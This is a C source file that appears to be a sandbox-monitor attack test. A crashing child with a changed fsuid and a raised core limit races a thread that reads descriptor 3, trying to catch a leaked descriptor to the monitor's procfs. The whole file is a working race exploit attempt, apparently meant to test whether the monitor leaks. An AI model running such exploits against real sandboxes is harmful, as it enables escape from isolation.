// A process that dies with changed ids asks the monitor's procfs for fs.suid_dumpable. Another thread reads the lowest free
// number all the time: natively it is EBADF, because nobody opens a file. Won: the thread reads something, which comes from
// the monitor's procfs.
#include "attack.h"
#include <pthread.h>
#include <sys/fsuid.h>
#include <sys/resource.h>

static void *catcher(void *argument) {
    char text[64];
    for (;;) {
        ssize_t n = read(3, text, sizeof text);
        if (n > 0)
            attack_won("read %zd bytes at a number that nobody opened", n);
    }
    return argument;
}

static void one(void *argument) {
    struct rlimit most;
    pthread_t thread;
    (void)argument;
    getrlimit(RLIMIT_CORE, &most);
    most.rlim_cur = most.rlim_max;
    setrlimit(RLIMIT_CORE, &most);
    for (int fd = 3; fd < 64; fd++)
        close(fd);
    if (pthread_create(&thread, NULL, catcher, NULL) != 0)
        attack_broken("pthread_create");
    usleep(500);
    setfsuid(1000);
    *(volatile char *)8 = 1;
}

int main(void) {
    do {
        if (attack_child_won(attack_child(one, NULL)))
            attack_won("a descriptor of the monitor's procfs");
    } while (!attack_over());
    attack_lost();
}
